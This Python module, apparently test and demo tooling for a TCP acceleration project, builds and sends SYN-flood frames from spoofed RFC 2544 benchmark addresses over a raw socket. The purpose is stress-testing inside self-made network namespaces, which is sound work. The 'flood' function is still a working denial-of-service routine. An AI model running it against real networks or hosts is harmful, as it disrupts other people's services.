"""A SYN flood from spoofed addresses, as an attacker on the same network would send it.

Used by the demonstration and the tests, only ever on an interface of a network namespace
that they made themselves.
"""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import time
from collections.abc import Iterator

from acceltcp.abi.wire import ETHERNET, IPV4, TCP, EtherType, IPProtocol, TCPFlag

__all__ = ["SPOOFED_SOURCES", "checksum", "flood", "syn_frames"]

SPOOFED_SOURCES = ipaddress.IPv4Network("198.18.0.0/15")
"""Reserved for benchmarking network devices (RFC 2544): no such host exists."""

_OPTIONS = bytes.fromhex("020405b4" "0402" "080a00000001" "00000000" "01" "030307")
"""What a Linux SYN carries: MSS 1460, SACK permitted, timestamps, window scale 7."""


def checksum(data: bytes) -> int:
    """Internet checksum (RFC 1071) of `data`, as it stands in a header."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn_frames(count: int, *, dst_mac: int, src_mac: int, address: str, port: int, seed: int) -> Iterator[bytes]:
    """`count` SYNs of 74 bytes to `address`:`port`, each from a random source and port."""
    rng = random.Random(seed)
    dst = int(ipaddress.IPv4Address(address))
    first, size = int(SPOOFED_SOURCES.network_address), SPOOFED_SOURCES.num_addresses
    ethernet = ETHERNET.pack(dst=dst_mac, src=src_mac, ethertype=EtherType.IPV4)
    tcp_bytes = TCP.size + len(_OPTIONS)
    for _ in range(count):
        src = first + rng.randrange(1, size - 1)
        ip = {
            "version": 4,
            "ihl": 5,
            "total_length": IPV4.size + tcp_bytes,
            "identification": rng.getrandbits(16),
            "ttl": 64,
            "protocol": IPProtocol.TCP,
            "src": src,
            "dst": dst,
        }
        tcp = {
            "src_port": rng.randrange(1024, 65536),
            "dst_port": port,
            "seq": rng.getrandbits(32),
            "data_offset": tcp_bytes // 4,
            "flags": TCPFlag.SYN,
            "window": 64240,
        }
        pseudo = struct.pack("!IIHH", src, dst, IPProtocol.TCP, tcp_bytes)
        tcp_sum = checksum(pseudo + TCP.pack(**tcp) + _OPTIONS)
        yield (
            ethernet
            + IPV4.pack(**ip, checksum=checksum(IPV4.pack(**ip)))
            + TCP.pack(**tcp, checksum=tcp_sum)
            + _OPTIONS
        )


def flood(interface: str, count: int, *, per_second: float | None = None, **target: object) -> float:
    """Send `syn_frames(count, **target)` out of `interface`; returns the seconds it took.

    Needs CAP_NET_RAW in the namespace. `per_second` bounds the rate; without it the kernel's
    queue is the only bound.
    """
    start = time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((interface, 0))
        for sent, frame in enumerate(syn_frames(count, **target)):  # type: ignore[arg-type]
            if per_second and (ahead := start + sent / per_second - time.monotonic()) > 0:
                time.sleep(ahead)
            sock.send(frame)
    return time.monotonic() - start
